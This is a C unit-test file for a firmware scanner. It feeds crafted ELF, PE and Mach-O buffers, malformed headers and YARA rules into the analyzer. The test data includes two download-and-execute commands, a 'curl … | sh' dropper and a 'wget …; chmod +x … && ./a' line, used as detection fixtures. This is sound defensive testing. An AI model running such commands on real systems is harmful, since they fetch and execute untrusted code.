/* Unit tests for scanner/analyze.c: every buffer is built here and
 * allocated at its exact length, so that under ASan any read past a
 * hostile header's bounds fails the run. Covers each analysis, the rule
 * file's errors by line, and the refusal at every limit. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "scanner/analyze.h"
#include "scanner/yara_rules.h"

#define MIB (1024 * 1024)

/* ------------------------------------------------------------ helpers */

static uint64_t rng_state = 0x9e3779b97f4a7c15ull;

static uint64_t rng(void)
{
	rng_state ^= rng_state << 13;
	rng_state ^= rng_state >> 7;
	rng_state ^= rng_state << 17;
	return rng_state;
}

static void fill_random(uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		p[i] = (uint8_t)(rng() >> 24);
}

/* A plain "firmware" image: runs of four non-printable byte values. */
static void fill_low(uint8_t *p, size_t n)
{
	static const uint8_t v[4] = { 0x00, 0xff, 0x01, 0x80 };

	for (size_t i = 0; i < n; i++)
		p[i] = v[(i / 64) % 4];
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)v;
	p[1] = (uint8_t)(v >> 8);
}

static void put32(uint8_t *p, uint32_t v)
{
	for (int i = 0; i < 4; i++)
		p[i] = (uint8_t)(v >> (8 * i));
}

static const struct analyze_finding *find(const struct analyze_result *r, const char *kind)
{
	for (size_t i = 0; i < r->count; i++)
		if (strcmp(r->findings[i].kind, kind) == 0)
			return &r->findings[i];
	return NULL;
}

/* The first finding of a kind, failing the test without one. */
static const struct analyze_finding *must(const struct analyze_result *r, const char *kind)
{
	const struct analyze_finding *f = find(r, kind);

	if (f == NULL) {
		fail_msg("no %s finding", kind);
		abort();
	}
	return f;
}

static size_t count_kind(const struct analyze_result *r, const char *kind)
{
	size_t n = 0;

	for (size_t i = 0; i < r->count; i++)
		n += strcmp(r->findings[i].kind, kind) == 0;
	return n;
}

/* Analyzes a copy of p at its exact length (ASan sees any overread). */
static void run(const uint8_t *p, size_t len, const struct scan_yara *rules, const struct analyze_limits *lim,
		struct analyze_result *res)
{
	struct fw_err err;
	uint8_t *copy = malloc(len > 0 ? len : 1);

	assert_non_null(copy);
	if (len > 0)
		memcpy(copy, p, len);
	fw_err_clear(&err);
	if (analyze_buffer(copy, len, rules, lim, res, &err) != 0)
		fail_msg("analyze_buffer: %s", fw_err_msg(&err));
	free(copy);
}

/* The shipped YARA rules (scanner/rules/fwgate.yar, built in). */
static struct scan_yara *rules_default(void)
{
	struct scan_yara *rules = NULL;
	struct fw_err err;

	fw_err_clear(&err);
	if (scan_yara_load(&rules, NULL, 0, &err) != 0)
		fail_msg("%s", fw_err_msg(&err));
	assert_true(scan_yara_count(rules) >= 20);
	return rules;
}

/* Rules from text, through a file as [scanner] yara_rules names one. */
static struct scan_yara *rules_text(const char *text, struct fw_err *err)
{
	static char paths[1][FW_PATH_MAX];
	char name[] = "/tmp/fwgate-test-yara-XXXXXX";
	struct scan_yara *rules = NULL;
	int fd = mkstemp(name);

	assert_true(fd >= 0);
	assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
	close(fd);
	snprintf(paths[0], sizeof(paths[0]), "%s", name);
	fw_err_clear(err);
	if (scan_yara_load(&rules, (const char(*)[FW_PATH_MAX])paths, 1, err) != 0)
		rules = NULL;
	unlink(name);
	return rules;
}

/* ------------------------------------------------------------ a tiny PE */

#define PE_LEN 0x400

/* One section ".text" (RVA 0x1000 at file 0x200) holding an import
 * descriptor for KERNEL32.dll!WriteProcessMemory. */
static void pe_build(uint8_t *b, size_t len, bool plus, uint16_t subsystem, uint32_t chars)
{
	size_t opt = 0x58, opt_size = plus ? 240 : 224, dirs = opt + (plus ? 112 : 96), sect = opt + opt_size;

	memset(b, 0, len);
	b[0] = 'M';
	b[1] = 'Z';
	put32(b + 0x3c, 0x40);
	memcpy(b + 0x40, "PE\0\0", 4);
	put16(b + 0x44, plus ? 0x8664 : 0x14c);
	put16(b + 0x46, 1);
	put16(b + 0x54, (uint16_t)opt_size);
	put16(b + 0x56, 0x0102);
	put16(b + opt, plus ? 0x20b : 0x10b);
	put32(b + opt + 60, 0x200);
	put16(b + opt + 68, subsystem);
	put32(b + opt + (plus ? 108 : 92), 16);
	put32(b + dirs + 8, 0x1000);
	put32(b + dirs + 12, 40);
	memcpy(b + sect, ".text", 5);
	put32(b + sect + 8, 0x1000);
	put32(b + sect + 12, 0x1000);
	put32(b + sect + 16, (uint32_t)(len - 0x200));
	put32(b + sect + 20, 0x200);
	put32(b + sect + 36, chars);
	put32(b + 0x200, 0x1040);
	put32(b + 0x200 + 12, 0x1060);
	put32(b + 0x200 + 16, 0x1040);
	put32(b + 0x240, 0x1070);
	memcpy(b + 0x260, "KERNEL32.dll", 12);
	memcpy(b + 0x272, "WriteProcessMemory", 18);
}

#define SCN_RX 0x60000020u   /* code, execute, read */
#define SCN_RWX 0xe0000020u  /* ... and write */

/* ------------------------------------------------------------ tests */

static void test_clean_firmware(void **state)
{
	struct analyze_result res;
	struct scan_yara *rules = rules_default();
	uint8_t *b = malloc(MIB);

	(void)state;
	assert_non_null(b);
	fill_low(b, MIB);
	run(b, MIB, rules, NULL, &res);
	assert_int_equal(res.count, 0);
	assert_int_equal(res.score, 0);
	assert_true(res.entropy_overall > 1.9 && res.entropy_overall < 2.1);
	assert_true(res.entropy_high_fraction == 0.0);
	analyze_result_clear(&res);
	/* An executable at offset 0 is the member itself. */
	memcpy(b, "\x7f" "ELF\x02\x01\x01", 7);
	put16(b + 16, 2);
	put32(b + 20, 1);
	put16(b + 52, 64);
	run(b, MIB, rules, NULL, &res);
	assert_null(find(&res, "embedded-elf"));
	analyze_result_clear(&res);
	scan_yara_free(rules);
	free(b);
}

static const char dropper[] = "curl -s http://198.51.100.7/x | sh";

static void test_embedded_elf_and_dropper(void **state)
{
	struct analyze_result res;
	struct scan_yara *rules = rules_default();
	const struct analyze_finding *f;
	uint8_t *b = malloc(MIB);
	json_t *doc;

	(void)state;
	assert_non_null(b);
	fill_low(b, MIB);
	memcpy(b + 0x10000, "\x7f" "ELF\x02\x01\x01", 7);
	put16(b + 0x10000 + 16, 2);
	put32(b + 0x10000 + 20, 1);
	put16(b + 0x10000 + 52, 64);
	memcpy(b + 0x20001, dropper, sizeof(dropper)); /* with its NUL */
	run(b, MIB, rules, NULL, &res);
	f = must(&res, "embedded-elf");
	assert_int_equal(f->offset, 0x10000);
	f = must(&res, "url");
	assert_int_equal(f->offset, 0x20001 + 8);
	assert_non_null(strstr(f->detail, "http://198.51.100.7/x"));
	f = must(&res, "ip");
	assert_non_null(strstr(f->detail, "198.51.100.7"));
	f = must(&res, "download-exec");
	assert_int_equal(f->offset, 0x20001);
	assert_int_equal(count_kind(&res, "yara"), 2);   /* curl_silent, pipe_to_sh */
	assert_string_equal(must(&res, "yara")->detail, "curl_silent [download]");
	assert_true(res.score >= 60);
	doc = analyze_result_json(&res);
	assert_non_null(doc);
	assert_int_equal(json_integer_value(json_object_get(doc, "score")), res.score);
	assert_int_equal(json_array_size(json_object_get(doc, "findings")), res.count);
	f = &res.findings[0];
	assert_string_equal(json_string_value(json_object_get(json_array_get(json_object_get(doc, "findings"), 0),
							      "kind")), f->kind);
	json_decref(doc);
	analyze_result_clear(&res);
	scan_yara_free(rules);
	free(b);
}

static void test_embedded_kinds(void **state)
{
	static const uint8_t macho[32] = { 0xcf, 0xfa, 0xed, 0xfe, 0x07, 0, 0, 0x01, 3, 0, 0, 0, 2, 0, 0, 0,
					   1, 0, 0, 0, 72, 0, 0, 0 };
	static const uint8_t java[8] = { 0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34 };
	struct analyze_result res;
	uint8_t *b = malloc(MIB), pe[PE_LEN];

	(void)state;
	assert_non_null(b);
	fill_low(b, MIB);
	pe_build(pe, PE_LEN, false, 2, SCN_RX);
	memcpy(b + 0x30000, pe, PE_LEN);
	memcpy(b + 0x50000, macho, sizeof(macho));
	memcpy(b + 0x60000, java, sizeof(java));   /* a Java class, not a fat Mach-O */
	b[0x70000] = 'M';                           /* MZ with nothing behind it */
	b[0x70001] = 'Z';
	run(b, MIB, NULL, NULL, &res);
	assert_int_equal(must(&res, "embedded-pe")->offset, 0x30000);
	assert_int_equal(must(&res, "embedded-macho")->offset, 0x50000);
	assert_int_equal(count_kind(&res, "embedded-pe"), 1);
	assert_int_equal(count_kind(&res, "embedded-macho"), 1);
	assert_null(find(&res, "pe-unsigned"));     /* facts of the member's own PE only */
	analyze_result_clear(&res);
	free(b);
}

static void test_pe32_wx_import(void **state)
{
	struct analyze_result res;
	uint8_t pe[PE_LEN];
	const struct analyze_finding *f;

	(void)state;
	pe_build(pe, PE_LEN, false, 2, SCN_RWX);
	run(pe, PE_LEN, NULL, NULL, &res);
	f = must(&res, "pe-wx-section");
	assert_non_null(strstr(f->detail, "\".text\""));
	f = must(&res, "pe-suspicious-import");
	assert_string_equal(f->detail, "imports WriteProcessMemory");
	assert_int_equal(f->offset, 0x240);
	assert_non_null(find(&res, "pe-unsigned"));
	assert_null(find(&res, "pe-malformed"));
	assert_null(find(&res, "embedded-pe"));
	assert_int_equal(res.score, 25 + 15 + 10);
	analyze_result_clear(&res);
}

static void test_pe_efi_and_packed(void **state)
{
	struct analyze_result res;
	size_t len = 0x200 + 0x4000;
	uint8_t *pe = malloc(len);

	(void)state;
	assert_non_null(pe);
	/* A UEFI driver in PE32+: unsigned is normal for it; the import is still read. */
	pe_build(pe, PE_LEN, true, 11, SCN_RX);
	run(pe, PE_LEN, NULL, NULL, &res);
	assert_null(find(&res, "pe-unsigned"));
	assert_null(find(&res, "pe-wx-section"));
	assert_null(find(&res, "pe-malformed"));
	assert_non_null(find(&res, "pe-suspicious-import"));
	analyze_result_clear(&res);
	/* A section of random bytes is packed. */
	pe_build(pe, len, false, 2, SCN_RX);
	fill_random(pe + 0x400, len - 0x400);
	run(pe, len, NULL, NULL, &res);
	assert_non_null(find(&res, "pe-packed-section"));
	assert_non_null(find(&res, "pe-suspicious-import"));
	analyze_result_clear(&res);
	free(pe);
}

/* One hostile variant: analyzed without a crash; want is a pe-malformed
 * detail substring, or NULL when the PE is not one at all. */
static void pe_hostile(const uint8_t *pe, size_t len, const char *want)
{
	struct analyze_result res;

	run(pe, len, NULL, NULL, &res);
	if (want == NULL) {
		assert_null(find(&res, "pe-unsigned"));
	} else {
		const struct analyze_finding *f = find(&res, "pe-malformed");

		if (f == NULL || strstr(f->detail, want) == NULL)
			fail_msg("want pe-malformed \"%s\", got \"%s\"", want, f ? f->detail : "(none)");
	}
	analyze_result_clear(&res);
}

static void test_pe_hostile(void **state)
{
	struct analyze_result res;
	uint8_t pe[PE_LEN];
	size_t sect = 0x58 + 224;

	(void)state;
	pe_build(pe, PE_LEN, false, 2, SCN_RWX);
	put32(pe + 0x3c, 0xfffffff0u);                  /* e_lfanew far past the end */
	pe_hostile(pe, PE_LEN, NULL);
	put32(pe + 0x3c, PE_LEN - 2);                   /* "PE\0\0" cut by the end */
	pe_hostile(pe, PE_LEN, NULL);
	pe_build(pe, PE_LEN, false, 2, SCN_RWX);
	put16(pe + 0x46, 0xffff);                       /* NumberOfSections */
	pe_hostile(pe, PE_LEN, "declares 65535 sections; only the first 96 were examined");
	pe_build(pe, PE_LEN, false, 2, SCN_RWX);
	put16(pe + 0x54, 0xffff);                       /* section table past the end */
	pe_hostile(pe, PE_LEN, "the section table runs past the end of the file");
	pe_build(pe, PE_LEN, false, 2, SCN_RWX);
	put32(pe + 0x58 + 96 + 8, 0xfffffff0u);         /* import RVA garbage */
	pe_hostile(pe, PE_LEN, "the import directory (RVA 0xfffffff0) is outside the file");
	pe_build(pe, PE_LEN, false, 2, SCN_RWX);
	put32(pe + 0x58 + 96 + 8, 0x1000 + 0x1f0);      /* descriptors cut by the end */
	pe_hostile(pe, PE_LEN, "the import directory runs past the end of the file");
	pe_build(pe, PE_LEN, false, 2, SCN_RWX);
	put32(pe + 0x200, 0x7ffffff0u);                 /* thunk RVA garbage */
	pe_hostile(pe, PE_LEN, "an import thunk array (RVA 0x7ffffff0) is outside the file");
	pe_build(pe, PE_LEN, false, 2, SCN_RWX);
	put32(pe + 0x240, 0x1000 + 0x1fc);              /* a name cut by the end, no NUL */
	memset(pe + 0x3fe, 'A', 2);
	run(pe, PE_LEN, NULL, NULL, &res);
	assert_null(find(&res, "pe-suspicious-import"));
	assert_non_null(find(&res, "pe-wx-section"));
	analyze_result_clear(&res);
	pe_build(pe, PE_LEN, false, 2, SCN_RWX);
	put32(pe + sect + 16, 0xffffffffu);             /* raw data size and pointer overflow */
	put32(pe + sect + 20, 0xffffffffu);
	pe_hostile(pe, PE_LEN, "section \".text\" has its data outside the file");
	pe_build(pe, PE_LEN, false, 2, SCN_RWX);
	put32(pe + 0x58 + 96 + 32, 0xfffffff0u);        /* certificate table */
	put32(pe + 0x58 + 96 + 36, 0x100);
	pe_hostile(pe, PE_LEN, "the certificate table lies outside the file");
}

/* Every prefix of the PE, and random corruptions of its headers and
 * import structures: no crash, no read out of bounds. */
static void test_pe_truncated_and_mutated(void **state)
{
	struct analyze_result res;
	uint8_t pe[PE_LEN], good[PE_LEN];

	(void)state;
	pe_build(good, PE_LEN, false, 2, SCN_RWX);
	for (size_t n = 0; n <= PE_LEN; n++) {
		run(good, n, NULL, NULL, &res);
		analyze_result_clear(&res);
	}
	for (int iter = 0; iter < 4000; iter++) {
		int edits = 1 + (int)(rng() % 6);

		memcpy(pe, good, PE_LEN);
		if (iter % 2)
			pe_build(pe, PE_LEN, true, 2, SCN_RWX);
		for (int e = 0; e < edits; e++) {
			size_t at = (size_t)(rng() % (PE_LEN - 4));

			if (rng() % 2)
				put32(pe + at, (uint32_t)rng());
			else
				pe[at] = (uint8_t)rng();
		}
		run(pe, PE_LEN, NULL, NULL, &res);
		assert_true(res.score >= 0 && res.score <= ANALYZE_SCORE_MAX);
		analyze_result_clear(&res);
	}
}

static void test_high_entropy_region(void **state)
{
	struct analyze_result res;
	const struct analyze_finding *f;
	uint8_t *b = malloc(MIB);

	(void)state;
	assert_non_null(b);
	fill_low(b, MIB);
	fill_random(b + 0x40000, 128 * 1024);
	run(b, MIB, NULL, NULL, &res);
	f = must(&res, "high-entropy-region");
	assert_int_equal(f->offset, 0x40000);
	assert_non_null(strstr(f->detail, "128 KiB"));
	assert_true(res.entropy_max > 7.9);
	assert_true(res.entropy_high_fraction > 0.124 && res.entropy_high_fraction < 0.126);
	assert_true(res.entropy_overall < 6.0);
	analyze_result_clear(&res);
	/* 60 KiB is below the run's bound. */
	fill_low(b, MIB);
	fill_random(b + 0x40000, 60 * 1024);
	run(b, MIB, NULL, NULL, &res);
	assert_null(find(&res, "high-entropy-region"));
	analyze_result_clear(&res);
	/* A member random throughout is compressed, not hiding anything. */
	fill_random(b, MIB);
	run(b, MIB, NULL, NULL, &res);
	assert_null(find(&res, "high-entropy-region"));
	assert_true(res.entropy_overall > 7.9);
	analyze_result_clear(&res);
	free(b);
}

/* The caller's opened streams, as the worker passes them: two ranges
 * (out of order, overlapping) and one outside the member. */
static size_t opened_find(void *arg, const uint8_t *p, size_t len, struct analyze_range *out, size_t max)
{
	const struct analyze_range *want = arg;

	(void)p;
	(void)len;
	assert_true(max >= 3);
	memcpy(out, want, 3 * sizeof(*out));
	return 3;
}

/* A stream the walk opened is no high-entropy finding; what it leaves
 * uncovered still is. */
static void test_opened_streams(void **state)
{
	struct analyze_result res;
	struct analyze_limits lim;
	struct analyze_range ranges[3] = {
		{ 0x50000, 0x20000 }, { 0x40000, 0x18000 }, { 4 * MIB, 4096 },
	};
	struct analyze_opened op = { .arg = ranges, .find = opened_find };
	uint8_t *b = malloc(MIB);

	(void)state;
	assert_non_null(b);
	analyze_limits_default(&lim);
	lim.opened = &op;
	fill_low(b, MIB);
	fill_random(b + 0x40000, 128 * 1024);
	run(b, MIB, NULL, &lim, &res);
	assert_null(find(&res, "high-entropy-region"));
	assert_int_equal(res.opened_bytes, 0x30000);
	analyze_result_clear(&res);
	/* 128 KiB more of random bytes past the opened ones: found */
	fill_random(b + 0x80000, 128 * 1024);
	run(b, MIB, NULL, &lim, &res);
	assert_int_equal(must(&res, "high-entropy-region")->offset, 0x80000);
	analyze_result_clear(&res);
	free(b);
}

static void test_strings(void **state)
{
	static const char text[] =
		"\0version 1.2.3.4\0" "203.0.113.9\0" "203.0.113.10:8080\0" "192.168.1.1\0" "256.1.1.1\0"
		"ftp://user@203.0.113.11/fw.bin\0" "wget http://x.example/a; chmod +x a && ./a\0";
	struct analyze_result res;
	const struct analyze_finding *f;

	(void)state;
	run((const uint8_t *)text, sizeof(text), NULL, NULL, &res);
	f = must(&res, "ip");
	assert_string_equal(f->detail, "3 found, e.g. 203.0.113.9, 203.0.113.10:8080, 203.0.113.11");
	f = must(&res, "url");
	assert_string_equal(f->detail, "2 found, e.g. ftp://user@203.0.113.11/fw.bin, http://x.example/a");
	f = must(&res, "download-exec");
	assert_non_null(strstr(f->detail, "wget http://x.example/a; chmod +x a"));
	analyze_result_clear(&res);
}

static void test_rules_match(void **state)
{
	static const char text[] = "rule esc : t1 t2 { meta: score = 7 strings: $a = { 41 00 42 5c 22 } condition: $a }\n"
				   "rule mz { meta: severity = \"high\" strings: $a = \"MZ\\x90\\x00\" condition: $a }\n"
				   "rule never { meta: score = 1000 strings: $a = { 01 02 03 04 05 } condition: $a }\n"
				   "rule one { meta: score = 2 severity = 90 strings: $a = \"Q\" condition: #a == 2 }\n"
				   "rule bad : x { meta: verdict = \"suspicious\" condition: uint16(9) == 0x5a4d }\n"
				   "rule worst { meta: verdict = \"malicious\" condition: filesize > 1000000 }\n";
	static const uint8_t buf[] = "xxA\0B\\\"yyMZ\x90\0zzQzzQ";
	struct scan_yara *rules;
	struct analyze_result res;
	struct fw_err err;

	(void)state;
	rules = rules_text(text, &err);
	if (rules == NULL)
		fail_msg("%s", fw_err_msg(&err));
	assert_int_equal(scan_yara_count(rules), 6);
	run(buf, sizeof(buf) - 1, rules, NULL, &res);
	assert_int_equal(count_kind(&res, "yara"), 4);
	assert_string_equal(res.findings[0].detail, "esc [t1,t2]");
	assert_int_equal(res.findings[0].offset, 2);
	assert_int_equal(res.findings[1].offset, 9);
	assert_int_equal(res.findings[1].weight, 50);   /* severity high */
	assert_int_equal(res.findings[2].offset, 15);   /* first of two matches */
	assert_int_equal(res.findings[2].weight, 2);    /* score wins over severity */
	assert_string_equal(res.findings[3].detail, "bad [x] (verdict suspicious)");
	assert_int_equal(res.score, 7 + 50 + 2 + ANALYZE_YARA_SUSPICIOUS);
	analyze_result_clear(&res);
	scan_yara_free(rules);
	scan_yara_free(NULL);
}

static void test_rules_errors(void **state)
{
	struct fw_err err;

	(void)state;
	assert_null(rules_text("rule a { condition: true }\n\nrule b { strings: $a = \"x\" condition: $b }\n", &err));
	assert_non_null(strstr(fw_err_msg(&err), ":3: undefined string \"$b\""));
	assert_int_equal(fw_err_code(&err), FW_E_CONFIG);
	assert_null(rules_text("rule a { meta: verdict = \"bad\" condition: true }", &err));
	assert_string_equal(fw_err_msg(&err), "YARA rule a: meta verdict must be \"malicious\" or \"suspicious\"");
	assert_null(rules_text("rule a { meta: score = 1001 condition: true }", &err));
	assert_string_equal(fw_err_msg(&err), "YARA rule a: meta score must be an integer from 0 to 1000");
	assert_null(rules_text("rule a { meta: severity = \"huge\" condition: true }", &err));
	assert_string_equal(fw_err_msg(&err),
			    "YARA rule a: meta severity must be an integer from 0 to 1000 or low, medium, high, critical");
}

static void test_max_bytes(void **state)
{
	struct analyze_limits lim;
	struct analyze_result res;
	struct fw_err err;
	uint8_t *b = calloc(1, 1001);
	FILE *f = tmpfile();

	(void)state;
	assert_non_null(b);
	analyze_limits_default(&lim);
	lim.max_bytes = 1000;
	fw_err_clear(&err);
	assert_int_equal(analyze_buffer(b, 1001, NULL, &lim, &res, &err), -1);
	assert_string_equal(fw_err_msg(&err),
			    "the member is 1001 bytes, more than the 1000 bytes the analyzer reads (max_bytes)");
	assert_null(res.findings);
	assert_int_equal(analyze_buffer(b, 1000, NULL, &lim, &res, &err), 0);
	analyze_result_clear(&res);
	/* The same bound through a descriptor, refused before a byte is read. */
	assert_non_null(f);
	memcpy(b + 100, "MZ", 2);
	memcpy(b + 500, dropper, sizeof(dropper));
	assert_int_equal(fwrite(b, 1, 1001, f), 1001);
	assert_int_equal(fflush(f), 0);
	fw_err_clear(&err);
	assert_int_equal(analyze_fd(fileno(f), NULL, &lim, &res, &err), -1);
	assert_string_equal(fw_err_msg(&err),
			    "the member is 1001 bytes, more than the 1000 bytes the analyzer reads (max_bytes)");
	lim.max_bytes = 1001;
	assert_int_equal(analyze_fd(fileno(f), NULL, &lim, &res, &err), 0);
	assert_non_null(find(&res, "download-exec"));
	analyze_result_clear(&res);
	/* Limits out of range are refused. */
	lim.max_findings = 0;
	fw_err_clear(&err);
	assert_int_equal(analyze_buffer(b, 10, NULL, &lim, &res, &err), -1);
	assert_string_equal(fw_err_msg(&err), "analyze: max_findings must be from 1 to 4096");
	fclose(f);
	free(b);
}

/* An ELF header every 4 KiB. */
static uint8_t *many_elves(size_t n, size_t *len)
{
	uint8_t *b;

	*len = (n + 1) * 4096;
	b = malloc(*len);
	assert_non_null(b);
	fill_low(b, *len);
	for (size_t i = 1; i <= n; i++) {
		memcpy(b + i * 4096, "\x7f" "ELF\x01\x01\x01", 7);
		put16(b + i * 4096 + 16, 3);
		put32(b + i * 4096 + 20, 1);
		put16(b + i * 4096 + 40, 52);
	}
	return b;
}

static void test_limits(void **state)
{
	struct analyze_limits lim;
	struct analyze_result res;
	size_t len;
	uint8_t *b = many_elves(100, &len), pe[PE_LEN];
	char strs[10 * 8 + 32];
	size_t o = 0;
	json_t *doc;

	(void)state;
	analyze_limits_default(&lim);
	lim.max_findings = 10;
	run(b, len, NULL, &lim, &res);
	assert_int_equal(res.count, 10);
	assert_int_equal(res.dropped, 90);
	assert_int_equal(res.score, ANALYZE_SCORE_MAX);   /* 100 x 30, capped */
	doc = analyze_result_json(&res);
	assert_int_equal(json_array_size(json_object_get(doc, "findings")), 10);
	assert_int_equal(json_integer_value(json_object_get(doc, "dropped")), 90);
	json_decref(doc);
	analyze_result_clear(&res);
	/* Candidates for embedded executables. */
	analyze_limits_default(&lim);
	lim.max_candidates = 5;
	run(b, len, NULL, &lim, &res);
	assert_int_equal(count_kind(&res, "embedded-elf"), 5);
	assert_non_null(strstr(must(&res, "analysis-limit")->detail, "stopped after 5 candidates"));
	analyze_result_clear(&res);
	free(b);
	/* Strings: the URL is the tenth string. */
	for (int i = 0; i < 9; i++)
		o += (size_t)snprintf(strs + o, sizeof(strs) - o, "string%d", i) + 1;
	o += (size_t)snprintf(strs + o, sizeof(strs) - o, "http://a.example/") + 1;
	analyze_limits_default(&lim);
	lim.max_strings = 9;
	run((const uint8_t *)strs, o, NULL, &lim, &res);
	assert_null(find(&res, "url"));
	assert_non_null(find(&res, "analysis-limit"));
	analyze_result_clear(&res);
	lim.max_strings = 10;
	run((const uint8_t *)strs, o, NULL, &lim, &res);
	assert_non_null(find(&res, "url"));
	assert_null(find(&res, "analysis-limit"));
	analyze_result_clear(&res);
	/* PE sections and imports. */
	pe_build(pe, PE_LEN, false, 2, SCN_RX);
	put16(pe + 0x46, 2);
	analyze_limits_default(&lim);
	lim.max_pe_sections = 1;
	run(pe, PE_LEN, NULL, &lim, &res);
	assert_string_equal(must(&res, "pe-malformed")->detail, "the PE declares 2 sections; only the first 1 were examined");
	analyze_result_clear(&res);
	pe_build(pe, PE_LEN, false, 2, SCN_RX);
	lim.max_imports = 2;   /* the descriptor and its one name */
	run(pe, PE_LEN, NULL, &lim, &res);
	assert_non_null(find(&res, "pe-suspicious-import"));
	analyze_result_clear(&res);
	lim.max_imports = 1;   /* the descriptor only */
	run(pe, PE_LEN, NULL, &lim, &res);
	assert_null(find(&res, "pe-suspicious-import"));
	assert_non_null(strstr(must(&res, "analysis-limit")->detail, "stopped after 1 entries"));
	analyze_result_clear(&res);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_clean_firmware),
		cmocka_unit_test(test_embedded_elf_and_dropper),
		cmocka_unit_test(test_embedded_kinds),
		cmocka_unit_test(test_pe32_wx_import),
		cmocka_unit_test(test_pe_efi_and_packed),
		cmocka_unit_test(test_pe_hostile),
		cmocka_unit_test(test_pe_truncated_and_mutated),
		cmocka_unit_test(test_high_entropy_region),
		cmocka_unit_test(test_opened_streams),
		cmocka_unit_test(test_strings),
		cmocka_unit_test(test_rules_match),
		cmocka_unit_test(test_rules_errors),
		cmocka_unit_test(test_max_bytes),
		cmocka_unit_test(test_limits),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
